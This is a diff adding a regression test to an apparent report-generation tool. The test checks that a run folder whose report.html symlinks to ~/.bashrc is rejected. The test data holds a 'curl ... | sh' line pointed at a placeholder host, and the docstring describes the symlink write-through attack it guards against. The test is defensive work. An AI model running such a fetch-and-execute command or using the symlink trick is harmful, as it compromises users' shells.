@@ -350,6 +350,27 @@ def test_write_report_is_self_contained(run_dir):
     assert write_report(run_dir, run_dir / "again.html").read_bytes() == out.read_bytes()  # same run, same bytes
 
 
+def test_a_run_folders_report_html_linking_out_of_it_is_not_written_through(tmp_path):
+    """Bug: a run folder from someone else whose report.html is a symlink to ~/.bashrc: `seqcast report RUN` replaced
+    ~/.bashrc by the page, whose lines (a verdict with newlines: 'curl ... | sh') are the run.json's author's."""
+    run = tmp_path / "downloaded"
+    run.mkdir()
+    (run / "run.json").write_text(json.dumps({"verdict": "x\ncurl https://example.invalid/x | sh\n"}))
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / ".bashrc").write_text("export PATH\n")
+    (run / "report.html").symlink_to(home / ".bashrc")
+    with pytest.raises(ConfigError, match=r"report.html' is a link to '.*\.bashrc', outside the run folder; remove the link, "
+                                          r"or name the report's file with --out"):
+        write_report(run)
+    assert (home / ".bashrc").read_text() == "export PATH\n"
+    assert "curl" in write_report(run, tmp_path / "r.html").read_text()  # a file named with --out: written
+    (run / "report.html").unlink()
+    (run / "report.html").symlink_to("again.html")  # a link inside the folder: written through as before
+    write_report(run)
+    assert (run / "again.html").is_file() and (run / "report.html").is_symlink()
+
+
 def test_sections_only_for_keys_present(tmp_path):
     html = write_html({"title": "bare", "leaderboard": [{"model": "a", "mase": 1.0}]}, tmp_path / "r.html").read_text()
     assert parse(html).sections == ["leaderboard"]
